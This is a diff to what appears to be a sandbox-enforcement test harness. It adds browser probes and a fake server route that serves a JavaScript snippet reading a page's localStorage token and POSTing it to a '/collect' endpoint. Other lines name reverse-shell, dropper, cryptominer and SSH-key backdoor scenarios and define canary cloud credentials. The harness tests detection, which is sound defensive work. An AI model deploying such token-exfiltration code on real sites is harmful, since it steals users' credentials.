@@ -72,6 +72,7 @@ _MODULES = {
     "test_dns.py": ("dns-tunnel", "slow-dns-drip", "recon-beacon"),
     "test_persistence.py": ("bashrc-persistence", "pth-persistence", "authorized-keys-backdoor"),
     "test_execution.py": ("reverse-shell", "dropper", "cryptominer", "ctypes-native", "pickle-payload"),
+    "test_browser.py": ("browser-token-exfil", "form-jacking", "beacon-exfil"),
     "test_benign.py": ("hn-config-read", "hn-loopback-server", "hn-spawn-git", "hn-spawn-python",
                        "hn-cache-write", "hn-native-lib", "hn-token-to-loopback"),
 }
@@ -113,6 +114,10 @@ SECRET_ENV = {name: f"CANARY-{name}" for name in (*sc.POOLS["secret_env"], *sc.P
 # metadata service's role credentials. Each leaves its marker in the loot folder.
 STAGE2 = "#!/bin/sh\necho \"stage 2 ran as uid $(id -u)\" > '{loot}/dropper.marker'\n"
 SHELL_COMMAND = "echo reverse-shell-ran > '{loot}/reverse-shell.marker'; exit\n"
+# The script a compromised page pulls in (browser-token-exfil): the app's token, to its origin.
+BROWSER_PAYLOAD = ("(() => { const origin = new URL(document.currentScript.src).origin;"
+                   " fetch(origin + '/collect', {method: 'POST', mode: 'no-cors',"
+                   " body: 'token=' + localStorage.getItem('token')}); })();")
 METADATA_ROLE = "probe-role"
 METADATA_CREDENTIALS = {"Code": "Success", "AccessKeyId": "ASIACANARYPROBE",
                         "SecretAccessKey": "CANARY-IMDS-SECRET", "Token": "CANARY-IMDS-TOKEN"}
@@ -261,7 +266,8 @@ def _prepare(root: Path, record: Path | None, pytest_args: list[str], timeout: f
     shutil.copytree(PROBES_DIR, probes, ignore=shutil.ignore_patterns("__pycache__"))
     # Its own ini file: rootdir and confcutdir are the copy, not the checkout's settings.
     (probes / "pytest.ini").write_text("[pytest]\n")
-    args = ["-p", "sandhop.enforcement.plugin", "-p", "no:cacheprovider", "-q", "-rfE", "--tb=short"]
+    args = ["-p", "sandhop.enforcement.plugin", "-p", "sandhop.enforcement.browser", "-p", "no:cacheprovider",
+            "-q", "-rfE", "--tb=short"]
     if record is not None:
         args += ["--sandhop-record", str(record), "--sandhop-suite", SUITE]
     # Probes named in the extra args (`test_dns.py`, `test_exfil.py::test_saas_exfil`) replace
@@ -357,9 +363,11 @@ def _http_handler(loot: _Loot):
     class Handler(http.server.BaseHTTPRequestHandler):
         protocol_version = "HTTP/1.1"
 
-        def _reply(self, body: bytes, status: int = 200) -> None:
+        def _reply(self, body: bytes, status: int = 200, content_type: str = "") -> None:
             self.send_response(status)
             self.send_header("Content-Length", str(len(body)))
+            if content_type:
+                self.send_header("Content-Type", content_type)
             self.end_headers()
             self.wfile.write(body)
 
@@ -370,6 +378,9 @@ def _http_handler(loot: _Loot):
                 return self._reply(METADATA_ROLE.encode())
             if local == METADATA_IP and self.path == base + METADATA_ROLE:
                 return self._reply(json.dumps(METADATA_CREDENTIALS).encode())
+            if local != METADATA_IP and self.path in sc.POOLS["js_path"]:
+                loot.store("http-get", self.path.encode(), address=local, host=self.headers.get("Host", ""))
+                return self._reply(BROWSER_PAYLOAD.encode(), content_type="text/javascript")
             if local != METADATA_IP and self.path.startswith("/stage2"):
                 loot.store("http-get", self.path.encode(), address=local, host=self.headers.get("Host", ""))
                 return self._reply(STAGE2.format(loot=loot.folder).encode())
@@ -528,25 +539,37 @@ def agreement(scenario: sc.Scenario | str, events: Sequence[Mapping]) -> list[st
     """Problems (empty: none) with `events`, a probe's recording, as the scenario's live twin:
     the generated steps must appear in it in order, with the same category, op and a class the
     generator gives the step (other events may come between; a child step in another process).
-    Probes do interchangeable steps in the library's order, one of the orders the generator draws."""
+    Steps of an unordered group may appear in any order (a browser reports a DOM change and
+    requests the script it adds in either order)."""
     s = sc.get(scenario) if isinstance(scenario, str) else scenario
     if not events:
         return [f"{s.id}: the probe {PROBES[s.id].events} recorded no events"]
     main_pid = events[0]["pid"]
-    at = 0
+    groups = {i: g for g in s.unordered for i in g}
+    at = group_from = group_to = 0
     for step in expected_steps(s):
+        group = groups.get(step.index)
+        if group is not None and step.index == group[0]:
+            group_from = group_to = at  # steps of an unordered group may come in any order
+        pos = group_from if group is not None else at
         for n in range(step.count):
-            found = next((i for i in range(at, len(events))
+            found = next((i for i in range(pos, len(events))
                           if events[i]["category"] == step.category and events[i]["op"] == step.op
                           and events[i]["target_class"] in step.classes
                           and (events[i]["pid"] != main_pid) == step.child), None)
             if found is None:
-                seen = [(e["category"], e["op"], e["target_class"], e["target"][:60]) for e in events[at:]
+                seen = [(e["category"], e["op"], e["target_class"], e["target"][:60]) for e in events[pos:]
                         if e["category"] == step.category]
                 return [f"{s.id}: step {step.index} ({step.category} {step.op}, class in "
                         f"{sorted(step.classes)}{', in a child' if step.child else ''}; occurrence {n + 1}) "
-                        f"is not in the recording after event {at}; {step.category} events there: {seen}"]
-            at = found + 1
+                        f"is not in the recording after event {pos}; {step.category} events there: {seen}"]
+            pos = found + 1
+        if group is None:
+            at = pos
+        else:
+            group_to = max(group_to, pos)
+            if step.index == group[-1]:
+                at = group_to
     return []
 
 
